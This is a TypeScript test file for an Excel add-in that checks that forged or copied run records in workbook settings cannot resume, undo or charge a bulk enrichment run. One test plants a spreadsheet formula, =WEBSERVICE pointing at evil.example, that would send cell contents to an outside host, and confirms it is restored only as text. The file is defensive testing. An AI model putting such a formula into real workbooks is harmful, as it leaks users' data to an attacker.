import type { Whose } from '../../shared/bulk/journal/seal';
import { startRun } from '../../shared/runs';
import { listUndo, undoRun } from '../../shared/bulk/undo/undo';
import { lookAtRun } from '../../shared/bulk/run/inspect';
import { planLeftRun } from '../../shared/bulk/run/plan-left-run';
import { BulkWorld } from '../fakes/excel/bulk-world';
import { FakeSheet, type FakeCell } from '../fakes/excel/sheet';
import { startSandboxProcess, type SandboxProcess } from '../fakes/sandbox-process';

/** What whoever may edit a workbook can make of the run that its settings tell of. */

const NAME = [{ adds: 'company', field: 'name' }] as const;
const SETTINGS = { cap: null, quoted: 0, maxAgeMs: 30 * 86_400_000 };
const PREFIX = 'trace.journal.';
const ANOTHER = 'https://fabrikam.example/leads.xlsx';

let sandbox: SandboxProcess;
let world: BulkWorld;

beforeAll(async () => {
  sandbox = await startSandboxProcess();
});
beforeEach(async () => {
  await sandbox.reset();
  const cell = (shown: unknown): FakeCell => ({ shown });
  const rows = Array.from({ length: 20 }, (_row, at) => [cell(`company-${at + 1}.example`)]);
  world = new BulkWorld(new FakeSheet([[cell('Domain')], ...rows]), sandbox.origin);
});
afterEach(() => BulkWorld.close());
afterAll(() => sandbox.stop());

/** A run of this browser's person that has spent its limit of 5 credits. */
const enrich = async (): Promise<unknown> => world.start(await world.plan(NAME), { cap: 5 });
const paid = async (): Promise<number> => (await sandbox.ledger()).chargedCompanies;

async function whose(): Promise<Whose | undefined> {
  const found = await world.drive(lookAtRun);
  return found.is === 'run' ? found.whose : undefined;
}

/** What somebody else saves in the workbook, who then has it opened. */
function forge(part: string, change: (kept: Record<string, unknown>) => object): void {
  const name = `${PREFIX}${part}`;
  const kept = JSON.parse(String(JSON.parse(world.settings.file.saved.get(name)!))) as Record<string, unknown>;
  world.settings.file.saved.set(name, JSON.stringify(JSON.stringify(change(kept))));
  world.open();
}

it('a run is known as one’s own when the workbook is opened again', async () => {
  await enrich();
  world.open();
  expect(await whose()).toBe('own');
});

it.each<[string, Whose, () => unknown]>([
  ['whose limit was raised in the workbook', 'other', () => forge('head', (head) => ({ ...head, cap: 1_000_000 }))],
  ['that says itself that it is own', 'other', () => forge('head', (head) => ({ ...head, whose: 'own' }))],
  ['of another computer', 'other', () => world.storage.entries.delete('trace.seal')],
  ['in a copy of the workbook', 'other', () => (world.document.url = ANOTHER)],
  ['that is unsigned, as of a version before', 'other', () => world.settings.file.saved.delete(`${PREFIX}seal`)],
])('a run %s is no run of one’s own: nothing is resumed, undone or paid', async (_what, expected, come) => {
  await enrich();
  const before = world.sheet.values(2);
  come();
  world.open();
  const codes = [await world.resume().catch(codeOf), await world.drive((ports) => undoRun(ports)).catch(codeOf)];
  expect({ whose: await whose(), codes, paid: await paid(), cells: world.sheet.values(2) }).toEqual({
    whose: expected,
    codes: ['runNotOwn', 'runNotOwn'],
    paid: 5,
    cells: before,
  });
});

const codeOf = (thrown: unknown): unknown => (thrown as { readonly code?: string }).code;

it('an older state that is put back gives its limit no second time', async () => {
  await enrich();
  const older = new Map(world.settings.file.saved);
  await world.resume({ rest: 3 });
  world.settings.file.saved = older;
  world.open();
  expect({ whose: await whose(), code: await world.resume({ rest: 3 }).catch(codeOf), paid: await paid() }).toEqual({
    whose: 'older',
    code: 'runNotOwn',
    paid: 8,
  });
});

it('a formula that it would put back is listed, and comes back as the text that it is', async () => {
  await enrich();
  const formula = '=WEBSERVICE("https://evil.example/?"&A2)';
  forge('block.0', (block) => ({ ...block, formats: ['General'], before: [[0, 0, formula, 0]] }));
  const listed = await world.drive(listUndo);
  const undone = await world.drive((ports) => undoRun(ports, listed));
  expect({ listed: listed.cells[0], restored: undone.restored, cell: world.sheet.rows[1]![1] }).toEqual({
    listed: { row: 1, column: 1, now: 'Company 1', back: { value: formula, format: 'General' } },
    restored: 5,
    cell: { shown: formula },
  });
});

it('a list is good for what it listed: a cell that is edited before the confirmation has it asked again', async () => {
  await enrich();
  world.storage.entries.delete('trace.seal');
  world.open();
  const listed = await world.drive(listUndo);
  world.sheet.rows[2]![1] = { shown: 'mine' };
  const before = world.sheet.values(2);
  expect(await world.drive((ports) => undoRun(ports, listed)).catch(codeOf)).toBe('undoListStale');
  expect(world.sheet.values(2)).toEqual(before);
});

it('goes on as a run of whoever agrees to its new price, which is known as theirs from then on', async () => {
  await enrich();
  forge('head', (head) => ({ ...head, cap: 1_000_000 }));
  const { plan, run } = await world.drive(planLeftRun);
  const end = await world.drive((ports) => startRun(ports, plan, { ...SETTINGS, cap: 4, replaces: run }));
  world.open();
  expect({ rows: plan.rows.length, is: end.is, paid: await paid(), whose: await whose() }).toEqual({
    rows: 15,
    is: 'paused',
    paid: 9,
    whose: 'own',
  });
});

it('a workbook that is kept nowhere yet has its runs as long as its page is open', async () => {
  world.document.url = '';
  world.open();
  await enrich();
  const resumed = await world.resume({ rest: 3 });
  world.open();
  expect({ is: resumed.is, whose: await whose() }).toEqual({ is: 'paused', whose: 'other' });
});

it('a workbook that is saved elsewhere while its page is open keeps its run there', async () => {
  await enrich();
  world.document.url = ANOTHER;
  expect((await world.resume({ rest: 3 })).is).toBe('paused');
});

it('a page that is closed between signing and noting it knows its run again', async () => {
  const plan = await world.plan(NAME);
  const setItem = world.storage.setItem.bind(world.storage);
  let kept = 0;
  world.storage.setItem = (key, value) => {
    if (key.startsWith('trace.run|') && (kept += 1) === 3) throw new Error('quota');
    setItem(key, value);
  };
  await world.start(plan, { cap: 5 }).catch(() => undefined);
  world.storage.setItem = setItem;
  world.open();
  expect(await whose()).toBe('own');
});
